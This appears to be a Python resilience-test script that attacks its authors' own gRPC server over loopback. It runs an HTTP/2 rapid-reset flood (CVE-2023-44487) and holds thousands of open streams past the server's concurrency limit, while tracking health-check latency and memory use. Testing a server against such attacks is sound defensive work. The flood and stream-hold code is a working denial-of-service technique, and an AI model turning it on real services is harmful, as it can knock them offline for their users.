#!/usr/bin/python3
"""HTTP/2 abuse of a running oppmatrix server, with its memory and health.

For a given time, at once and each in its own process:
  - flood: one connection gets HEADERS+RST_STREAM pairs ("rapid reset",
    CVE-2023-44487) in batches as fast as it takes them; after a GOAWAY or
    a close it reconnects (counted) and goes on;
  - hold: another connection opens --hold_streams streams with headers only
    (no message, never ended), ignoring the server's
    SETTINGS_MAX_CONCURRENT_STREAMS, and holds them until the end;
  - health: grpc.health.v1.Health/Check at --health_rate per second with a
    --health_deadline deadline, on a schedule (latency from each check's
    scheduled time, so a stalled server shows instead of slowing the checks);
  - the server's VmRSS and VmHWM (/proc/PID/status) are sampled.
Then it prints what was sent and seen, and each figure with its target and
their ratio (value / target: 1.00 or less meets it).

  /usr/bin/python3 clients/bench/h2_abuse.py --target=127.0.0.1:50051 \\
      --pid="$(pidof oppmatrix-classifier)" --duration=10

Needs Debian's python3-h2 (HPACK and framing) and python3-grpcio (the
health checks). Loopback targets only: it is a load test of our own server.
"""

import argparse
import json
import os
import select
import socket
import subprocess
import sys
import time

# A gRPC unary call's request headers (the request message never follows).
def request_headers(authority, path, timeout=None):
    extra = [(b"grpc-timeout", timeout.encode())] if timeout else []
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", authority.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ] + extra


def split_target(target):
    host, _, port = target.rpartition(":")
    return host.strip("[]"), int(port)


class Closed(Exception):
    """The server sent GOAWAY or closed the connection."""


class Connection:
    """One HTTP/2 client connection over a plain socket, driven by h2.

    `limitless` makes h2 ignore the server's SETTINGS_MAX_CONCURRENT_STREAMS
    (as an attacker would): the server has to enforce it.
    """

    def __init__(self, target, stats, limitless=False):
        import h2.config
        import h2.connection

        class LimitlessH2(h2.connection.H2Connection):
            @property
            def open_outbound_streams(self):
                return 0

        cls = LimitlessH2 if limitless else h2.connection.H2Connection
        self.conn = cls(
            h2.config.H2Configuration(client_side=True, header_encoding=None)
        )
        self.stats = stats
        self.sock = socket.create_connection(split_target(target), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.out = bytearray()
        self.settings_seen = False  # the server's first SETTINGS
        self.conn.initiate_connection()
        stats["connections"] += 1

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def queue(self):
        self.out += self.conn.data_to_send()

    def count_close(self):
        """A close by the server: before its SETTINGS it refused the
        connection (a ban), after them it closed one it had served."""
        self.stats["closed" if self.settings_seen else "refused"] += 1

    def pump(self, until, wait=0.0):
        """Reads what is there (and answers it), writes what is queued;
        waits up to `wait` seconds for either. Raises Closed."""
        self.queue()
        writable = [self.sock] if self.out else []
        timeout = max(0.0, min(wait, until - time.monotonic()))
        r, w, _ = select.select([self.sock], writable, [], timeout)
        if r:
            self.read()
        if w and self.out:
            try:
                n = self.sock.send(self.out)
            except (BlockingIOError, InterruptedError):
                n = 0
            except OSError as e:
                self.count_close()
                raise Closed(str(e))
            del self.out[:n]

    def flush(self, until):
        """Writes everything queued (reading meanwhile), or until `until`."""
        self.queue()
        while self.out and time.monotonic() < until:
            self.pump(until, wait=0.05)

    def read(self):
        import h2.events
        import h2.exceptions

        while True:
            try:
                data = self.sock.recv(1 << 20)
            except (BlockingIOError, InterruptedError):
                return
            except OSError as e:
                self.count_close()
                raise Closed(str(e))
            if not data:
                self.count_close()
                raise Closed("closed by the server")
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as e:
                # An answer for a stream the client reset so long ago that
                # h2 forgot it (StreamIDTooLowError): h2 cannot go on with
                # this connection, so it is dropped and made again.
                self.stats["client_protocol_errors"] += 1
                self.sock.close()
                raise Closed(f"h2 refused the server's frames: {e}")
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.stats["goaways"] += 1
                    self.stats["goaway_codes"].append(str(event.error_code))
                    raise Closed("GOAWAY")
                if isinstance(event, h2.events.StreamReset):
                    self.stats["reset_by_server"] += 1
                elif isinstance(event, h2.events.StreamEnded):
                    self.stats["ended_by_server"] += 1
                elif isinstance(event, h2.events.RemoteSettingsChanged):
                    self.settings_seen = True
                    c = event.changed_settings.get(3)  # MAX_CONCURRENT_STREAMS
                    if c is not None:
                        self.stats["server_max_concurrent_streams"] = c.new_value
            self.queue()


def new_stats():
    return {
        "connections": 0,
        "goaways": 0,
        "goaway_codes": [],
        "closed": 0,
        "refused": 0,
        "reset_by_server": 0,
        "ended_by_server": 0,
        "client_protocol_errors": 0,
        "server_max_concurrent_streams": None,
    }


def flood(args):
    """HEADERS+RST_STREAM pairs on one connection at a time."""
    import h2.errors

    stats = new_stats()
    stats["pairs"] = 0
    headers = request_headers(args.target, args.path, args.flood_timeout)
    start = time.monotonic()
    until = start + args.duration
    while time.monotonic() < until:
        try:
            c = Connection(args.target, stats)
        except OSError as e:
            stats["connect_errors"] = stats.get("connect_errors", 0) + 1
            stats["last_error"] = str(e)
            time.sleep(0.05)
            continue
        try:
            while time.monotonic() < until:
                for _ in range(args.batch):
                    sid = c.conn.get_next_available_stream_id()
                    c.conn.send_headers(sid, headers)
                    c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                c.flush(until)
                stats["pairs"] += args.batch
                c.pump(until)
        except Closed:
            pass
        finally:
            c.close()
    stats["seconds"] = time.monotonic() - start
    return stats


def hold(args):
    """--hold_streams streams with headers only, held until the end."""
    stats = new_stats()
    stats["sent"] = 0
    stats["held_at_end"] = 0
    stats["seconds"] = 0.0
    if args.hold_streams == 0:
        return stats
    headers = request_headers(args.target, args.path)
    start = time.monotonic()
    until = start + args.duration
    c = None
    while time.monotonic() < until:
        try:
            if c is None:
                c = Connection(args.target, stats, limitless=True)
                # The server's SETTINGS, acknowledged before any stream: its
                # stream limit then binds (a client that never acknowledges
                # is not bound by it in gRPC 1.51; see the README).
                while not c.settings_seen:
                    if time.monotonic() >= until:
                        raise Closed("no SETTINGS from the server")
                    c.pump(until, wait=0.05)
                c.flush(until)
            while stats["sent"] < args.hold_streams and time.monotonic() < until:
                for _ in range(min(500, args.hold_streams - stats["sent"])):
                    c.conn.send_headers(c.conn.get_next_available_stream_id(),
                                        headers)
                    stats["sent"] += 1
                c.flush(until)
                c.pump(until)
            c.pump(until, wait=0.1)
        except Closed:
            c.close()
            c = None
    # Held: sent on the last connection and neither reset nor answered.
    if c is not None:
        live = sum(1 for s in c.conn.streams.values() if not s.closed)
        stats["held_at_end"] = live
        c.close()
    stats["seconds"] = time.monotonic() - start
    return stats


def health(args):
    """Health checks on a fixed schedule; one record per check."""
    import grpc

    channel = grpc.insecure_channel(args.target)
    grpc.channel_ready_future(channel).result(timeout=10)
    check = channel.unary_unary("/grpc.health.v1.Health/Check")
    records = []
    start = time.monotonic()
    n = int(args.duration * args.health_rate)
    futures = []
    for i in range(n):
        scheduled = start + i / args.health_rate
        delay = scheduled - time.monotonic()
        if delay > 0:
            time.sleep(delay)

        def done(f, scheduled=scheduled):
            elapsed = time.monotonic() - scheduled
            code = f.code()
            ok = code == grpc.StatusCode.OK and f.result() == b"\x08\x01"
            records.append(
                {"at": scheduled - start, "ms": elapsed * 1e3, "ok": ok,
                 "code": code.name})

        f = check.future(b"", timeout=args.health_deadline)
        f.add_done_callback(done)
        futures.append(f)
    for f in futures:
        try:
            f.result(timeout=args.health_deadline + 5)
        except Exception:  # failed checks are records too
            pass
    time.sleep(0.1)
    channel.close()
    return {"records": sorted(records, key=lambda r: r["at"])}


def read_status(pid):
    """VmRSS and VmHWM of `pid` in MB, or None once it is gone."""
    try:
        with open(f"/proc/{pid}/status") as f:
            text = f.read()
    except OSError:
        return None
    out = {}
    for line in text.splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM"):
            out[key] = int(value.split()[0]) / 1024.0
    return out


def percentile(values, p):
    """Nearest rank."""
    if not values:
        return float("nan")
    s = sorted(values)
    k = max(0, min(len(s) - 1, int(-(-p * len(s) // 100)) - 1))
    return s[k]


def spawn(mode, args):
    cmd = [sys.executable, os.path.abspath(__file__), mode]
    for key, value in vars(args).items():
        if key != "mode" and value is not None and not isinstance(value, bool):
            cmd.append(f"--{key}={value}")
    return subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True)


def collect(proc, name):
    out, _ = proc.communicate()
    if proc.returncode != 0:
        raise SystemExit(f"h2_abuse: the {name} worker failed "
                         f"(exit {proc.returncode})")
    return json.loads(out)


def merge(stats):
    """The flood workers' counts added up."""
    out = new_stats()
    out.update(pairs=0, seconds=0.0)
    for s in stats:
        for key, value in s.items():
            if key == "server_max_concurrent_streams":
                out[key] = value
            elif key == "seconds":
                out[key] = max(out[key], value)
            elif key == "last_error":
                out[key] = value
            else:
                out[key] = out.get(key, 0 if not isinstance(value, list)
                                   else []) + value
    return out


def row(what, value, target=None, fmt="{:.1f}"):
    """One figure; with a target, the target, value / target (1.00 or less
    meets it; "-" for a target of 0) and the verdict."""
    v = fmt.format(value)
    if target is None:
        return f"  {what:<28}{v:>10}"
    ratio = f"{value / target:.2f}" if target else "-"
    verdict = "ok" if value <= target else "MISSED"
    return (f"  {what:<28}{v:>10}{fmt.format(target):>10}{ratio:>8}"
            f"  {verdict}")


def run(args):
    status = read_status(args.pid)
    if status is None:
        raise SystemExit(f"h2_abuse: no process {args.pid}")
    before = status["VmRSS"]
    workers = {}
    workers["health"] = spawn("health", args)
    time.sleep(0.5)  # the health channel connects first
    floods = [spawn("flood", args) for _ in range(args.flood_connections)]
    workers["hold"] = spawn("hold", args)
    samples = []  # (seconds since the start, VmRSS MB)
    start = time.monotonic()
    hwm = status["VmHWM"]
    died = False
    attack_end_rss = before

    def sample():
        nonlocal hwm
        s = read_status(args.pid)
        if s is not None:
            samples.append((time.monotonic() - start, s["VmRSS"]))
            hwm = s["VmHWM"]
        return s

    while any(w.poll() is None for w in floods + [workers["hold"]]):
        s = sample()
        if s is None:
            died = True
            break
        attack_end_rss = s["VmRSS"]
        time.sleep(0.05)
    flood_stats = merge([collect(w, "flood") for w in floods])
    hold_stats = collect(workers["hold"], "hold")
    health_stats = collect(workers["health"], "health")
    attack_seconds = time.monotonic() - start
    after = None
    settle_until = time.monotonic() + args.settle
    while not died and time.monotonic() < settle_until:
        s = sample()
        if s is None:
            died = True
        else:
            after = s["VmRSS"]
        time.sleep(0.05)
    peak_rss = max([before] + [v for _, v in samples])
    timeline = []  # the highest VmRSS of each second
    for t, v in samples:
        i = int(t)
        while len(timeline) <= i:
            timeline.append(0.0)
        timeline[i] = max(timeline[i], v)

    records = health_stats["records"]
    latencies = [r["ms"] for r in records]
    missed = [r for r in records if not r["ok"]]
    result = {
        "target": args.target,
        "seconds": args.duration,
        "rss_mb": {"before": before, "peak_sampled": peak_rss, "hwm": hwm,
                   "end_of_attack": attack_end_rss, "after_settle": after,
                   "per_second": timeline},
        "attack_seconds": attack_seconds,
        "flood": flood_stats,
        "hold": hold_stats,
        "health": {
            "checks": len(records),
            "missed": len(missed),
            "missed_codes": sorted({r["code"] for r in missed}),
            "p50_ms": percentile(latencies, 50),
            "p99_ms": percentile(latencies, 99),
            "max_ms": max(latencies) if latencies else float("nan"),
        },
        "server_died": died,
    }
    if args.json:
        print(json.dumps(result, indent=1))
    else:
        print_report(args, result)
    return 1 if died else 0


def print_report(args, r):
    f, h, hc = r["flood"], r["hold"], r["health"]
    print(f"h2 abuse  {args.target} (pid {args.pid})  {args.duration:g}s: "
          f"rapid reset on one connection, {args.hold_streams} held streams "
          f"on another, health checks at {args.health_rate:g}/s with a "
          f"{args.health_deadline:g}s deadline")
    rate = f["pairs"] / f["seconds"] if f["seconds"] else 0.0
    print(f"  rapid reset: {f['pairs']} HEADERS+RST_STREAM pairs "
          f"({rate:.0f}/s) on {f['connections']} "
          f"connection(s); {f['goaways']} GOAWAY(s)"
          f"{''.join(' ' + c for c in sorted(set(f['goaway_codes'])))}, "
          f"{f['closed']} "
          f"closed by the server, {f['refused']} refused before its SETTINGS; "
          f"server's max concurrent streams "
          f"{f['server_max_concurrent_streams']}")
    print(f"  held streams: {h['sent']} sent on {h['connections']} "
          f"connection(s), {h['held_at_end']} unanswered at the end, "
          f"{h['reset_by_server']} reset and {h['ended_by_server']} answered "
          f"by the server; {h['goaways']} GOAWAY(s), {h['closed']} closed, "
          f"{h['refused']} refused")
    print(f"  health: {hc['checks']} checks, {hc['missed']} missed "
          f"{' '.join(hc['missed_codes'])}")
    rss = r["rss_mb"]
    after = ("-" if rss["after_settle"] is None
             else f"{rss['after_settle']:.1f}")
    print(f"  RSS MB: {rss['before']:.1f} before, {rss['end_of_attack']:.1f} "
          f"at the end of the attack, {after} {args.settle:g}s after it; "
          f"highest each second: "
          f"{' '.join(f'{v:.0f}' for v in rss['per_second'])}")
    if r["server_died"]:
        print("  THE SERVER DIED during the attack")
    print(f"  {'':<28}{'value':>10}{'target':>10}{'ratio':>8}")
    print(row("peak RSS MB (VmHWM)", rss["hwm"], args.target_rss_mb))
    print(row("health p50 ms", hc["p50_ms"]))
    print(row("health p99 ms", hc["p99_ms"], args.target_p99_ms))
    print(row("health max ms", hc["max_ms"]))
    print(row("missed health checks", hc["missed"], 0, fmt="{:d}"))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("mode", nargs="?", default="run",
                   choices=["run", "flood", "hold", "health"],
                   help="run (everything, the default) or one worker")
    p.add_argument("--target", default="127.0.0.1:50051")
    p.add_argument("--pid", type=int, help="the server's process (run)")
    p.add_argument("--duration", type=float, default=10.0, help="seconds")
    p.add_argument("--path", default="/oppmatrix.v1.ClassificationService/"
                   "Classify", help="the :path of the abusive streams")
    p.add_argument("--flood_connections", type=int, default=1,
                   help="connections flooded at once, each by its own "
                   "process; 0 for none")
    p.add_argument("--flood_timeout", default=None,
                   help="flood: a grpc-timeout header on each stream "
                   "(e.g. 1M: a minute), as a client with deadlines sends")
    p.add_argument("--batch", type=int, default=200,
                   help="flood: pairs per write")
    p.add_argument("--hold_streams", type=int, default=20000)
    p.add_argument("--health_rate", type=float, default=20.0)
    p.add_argument("--health_deadline", type=float, default=1.0)
    p.add_argument("--settle", type=float, default=3.0,
                   help="seconds after the attack before the last RSS")
    p.add_argument("--target_rss_mb", type=float, default=256.0)
    p.add_argument("--target_p99_ms", type=float, default=100.0)
    p.add_argument("--json", action="store_true")
    args = p.parse_args()
    host, _ = split_target(args.target)
    if not (host.startswith("127.") or host in ("localhost", "::1")):
        p.error("--target must be a loopback address")
    if args.mode == "run":
        if args.pid is None:
            p.error("--pid is required")
        sys.exit(run(args))
    worker = {"flood": flood, "hold": hold, "health": health}[args.mode]
    print(json.dumps(worker(args)))


if __name__ == "__main__":
    main()
